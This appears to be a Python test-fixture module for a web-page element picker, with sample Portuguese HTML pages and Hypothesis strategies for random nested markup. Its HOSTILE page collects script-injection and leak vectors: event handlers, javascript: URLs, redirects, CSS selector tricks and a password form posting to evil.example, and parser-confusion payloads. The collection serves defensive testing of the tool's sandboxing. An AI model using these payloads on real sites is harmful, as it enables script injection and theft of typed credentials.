"""Pages for the picker, fixed and random."""

from __future__ import annotations

from hypothesis import strategies

from tarantula.streams.adapters.base import SourceResponse
from tarantula.streams.picker.draft import SourceDraft
from tarantula.streams.picker.page import PageTree

LEAGUE = """<!doctype html><html lang=pt><meta charset=utf-8><title>Hóquei em patins: 1.ª divisão</title>
<link rel=stylesheet href=/league.css><style>td { padding: 4px }</style>
<body><h1>Classificação</h1><img src=/logo.png alt=Logo width=40 height=40>
<table class="league css-1x9kq2z"><thead><tr><th>Pos.<th>Equipa<th>Pontos<th>Jogos<th>Vitórias</tr></thead><tbody>
<tr class=odd><td>1<td><a href=/equipas/benfica>SL Benfica</a><td>61<td>22<td>20</tr>
<tr class=even><td>2<td><a href=/equipas/porto>FC Porto</a><td>58<td>22<td>19</tr>
<tr class=odd><td>3<td><a href=/equipas/barcelos>OC Barcelos</a><td>44<td>22<td>14</tr>
</tbody></table>
<p id=updated>Atualizado às 14:05, 1.234 espectadores</p></body></html>"""

NEWS = """<!doctype html><meta charset=utf-8><title>Notícias</title><div class=list>
<article class="story first"><h2>Primeira</h2><p class=lead>Um texto.</p><span class=votes>12 votos</span></article>
<article class="story"><h2>Segunda</h2><p class=lead>Outro texto.</p><span class=votes>7 votos</span></article>
<article class="story"><h2>Terceira</h2><p class=lead>Mais um.</p><span class=votes>1 voto</span></article>
<aside class=advert>Compre já</aside></div>"""

SHOP = """<!doctype html><meta charset=utf-8><title>Loja</title><main id=product-8841725>
<h1 itemprop=name>Chaleira</h1><dl><dt>Preço<dd class="price sc-bdVaJa">Agora 1.249,50 € (antes 1.399,00 €)</dd>
<dt>Em stock<dd>3</dl><time datetime=2026-06-12T22:00:00Z>ontem</time>
<svg><text>42</text></svg><o:p>odd</o:p></main>"""

HOSTILE = """<!doctype html><html onload=evil() class='a"><script>evil()</script>'><head><title>Hostile</title>
<base href=//evil.example/ target=_top><meta http-equiv=refresh content="0;url=//evil.example/">
<script>parent.postMessage({pick: 1, part: ""}, "*"); top.location = "//evil.example/"</script>
<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/p>
<style>@import "//evil.example/i.css"; input[value^=a] { background: url(//evil.example/a) }
@font-face { font-family: f; src: url("//evil.example/f.woff") } </style><script>evil()</script>
</head><body onload=evil() background=//evil.example/b.png>
<img src=x onerror=evil() srcset="//evil.example/s 2x" longdesc=//evil.example/>
<a href="javascript:evil()" ping=//evil.example/ >link</a> <a href=" java&#10;script:evil()" target=_top>other</a>
<form action=//evil.example/ method=post><input name=user value=typed autofocus onfocus=evil()>
<input type=hidden value=token><input type=password value=hunter2><button formaction=javascript:evil()>send</button>
<select><option>one<option selected>two</select></form><iframe src=javascript:evil() srcdoc="<script>evil()</script>">
</iframe><object data=//evil.example/ ></object><embed src=//evil.example/ >
<svg onload=evil()><script>evil()</script><a xlink:href=javascript:evil()><text>svg</text></a></svg>
<noscript><p title="</noscript><img src=y onerror=evil()>"></noscript>
<template><script>evil()</script></template><video src=//evil.example/v poster=//evil.example/o autoplay></video>
<p style="background: url(//evil.example/c); color: red; -moz-binding: url(//evil.example/)">styled</p>
<div style="width: expression(evil())" data-tarantula=1 data-tarantula-state=lit is=x-evil contenteditable>marked</div>
<x-widget onclick=evil()>custom</x-widget><marquee onstart=evil()>old</marquee><dialog open>shown</dialog>
<p id=value>42</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;"></math>"""
"""A hostile page with many ways to run scripts; its value is 42."""


def answer_of(html: str, url: str = "http://a.example/page") -> SourceResponse:
    """Return a page as the response of a server."""
    return SourceResponse(url, html.encode(), "text/html; charset=utf-8")


def number_of(tree: PageTree, css: str, nth: int = 0) -> int:
    """Return the number of an element."""
    return tree.number(tree.document.select(css)[nth])


def draft_of(html: str, *chosen: tuple[str, int] | tuple[str, int, str]) -> SourceDraft:
    """Return a draft with picked elements: CSS selector, index, and optionally a part of the text."""
    answer = answer_of(html)
    tree = PageTree.of(answer)
    draft = SourceDraft(answer, tree)
    for css, nth, *part in chosen:
        draft.pick(number_of(tree, css, nth), *part)
    return draft


_TAGS = "div p span ul li table tr td th a section dl dt dd h2 b svg x-card o:p form option".split()
_NAMES = [
    "price",
    "row",
    "row odd",
    "total",
    "css-1q2w3e",
    "a b",
    "é",
    "1x",
    "quote'd",
    "x" * 70,
    "name:y",
    "sc-bdVaJa",
]


def _element(children: strategies.SearchStrategy[str]) -> strategies.SearchStrategy[str]:
    def written(parts: tuple[str, str, str, list[str]]) -> str:
        tag, classes, own_id, inside = parts
        names = (f' class="{classes}"' if classes else "") + (f' id="{own_id}"' if own_id else "")
        return f"<{tag}{names}>{''.join(inside)}</{tag}>"

    names = strategies.sampled_from(["", "", *_NAMES])
    return strategies.tuples(
        strategies.sampled_from(_TAGS),
        names,
        strategies.sampled_from(["", "", "", "main", "n1234", "price"]),
        strategies.lists(children, max_size=4),
    ).map(written)


RANDOM = strategies.lists(
    strategies.recursive(strategies.sampled_from(["1", "2 €", " ", "<br>", "<!-- c -->"]), _element, max_leaves=25),
    max_size=4,
).map(lambda parts: f"<!doctype html><body>{''.join(parts)}")
"""Pages of nested elements, also wrongly nested ones."""
